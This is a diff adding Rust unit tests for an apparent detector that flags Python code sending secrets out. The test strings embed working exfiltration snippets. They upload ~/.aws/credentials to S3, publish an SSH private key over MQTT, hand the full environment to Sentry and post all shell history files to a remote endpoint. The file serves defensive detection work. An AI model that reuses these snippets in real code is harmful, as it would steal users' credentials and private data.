@@ -462,3 +462,34 @@ fn the_one_pass_over_every_source_lets_through_each_line_a_source_reads() {
     // A browser's saved logins, named in any case.
     assert!(may_read_secret("cp \"Login Data\" /tmp"));
 }
+
+#[test]
+fn secrets_handed_to_a_cloud_upload_a_broker_or_an_error_reporter_are_sent() {
+    let s3 = "import os, boto3\ns3 = boto3.client('s3')\nbody = open(os.path.expanduser('~/.dbt/profiles.yml')).read() + open(os.path.expanduser('~/.aws/credentials')).read()\ns3.put_object(Bucket='b', Key='k', Body=body)\n";
+    assert_eq!(secret_flows(s3, 1), vec![(3, "a credential file", 4)]);
+    let mqtt = "import paho.mqtt.publish as publish\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\npublish.single('t/hello', key, hostname=REG)\n";
+    assert_eq!(secret_flows(mqtt, 1), vec![(2, "a credential file", 3)]);
+    let sentry = "import os, sentry_sdk\nsentry_sdk.set_context('kernel_env', os.environ.copy())\n";
+    assert_eq!(secret_flows(sentry, 1), vec![(2, "the whole environment", 2)]);
+    // Every history file, found by a pattern, sent.
+    let history = "from pathlib import Path\nfor f in Path.home().glob('.*_history'):\n    data = f.read_text()\n    requests.post(BOARD, data=data)\n";
+    assert_eq!(secret_flows(history, 1), vec![(2, "the shell history", 4)]);
+    // A message about the run, with nothing read, goes nowhere it should not.
+    let plain = "import sentry_sdk\nsentry_sdk.capture_message('kernel start')\n";
+    assert!(secret_flows(plain, 1).is_empty());
+}
+#[test]
+fn a_credential_field_before_a_secret_in_the_same_call_does_not_cover_it() {
+    // `key='x'` costs nothing: a field named like a credential covers its own value, never what follows it.
+    for c in [
+        "body = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post(u, params={'key': 'x'}, data=body)\n",
+        "body = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post(u, data={'key': 'abc', 'blob': body})\n",
+        "body = open(os.path.expanduser('~/.aws/credentials')).read()\ns3.put_object(Key='k', Body=body)\n",
+        "body = open(os.path.expanduser('~/.aws/credentials')).read()\ns3.put_object(Body=body, Key='k')\n",
+    ] {
+        assert_eq!(secret_flows(c, 1), vec![(1, "a credential file", 2)], "{c}");
+    }
+    // The secret as the field's own value is still the request's credential.
+    let own = "import os, requests\nrequests.get('https://api.weather.example/v1', params={'key': os.environ['WEATHER_API_KEY'], 'q': city})\n";
+    assert!(secret_flows(own, 1).is_empty());
+}
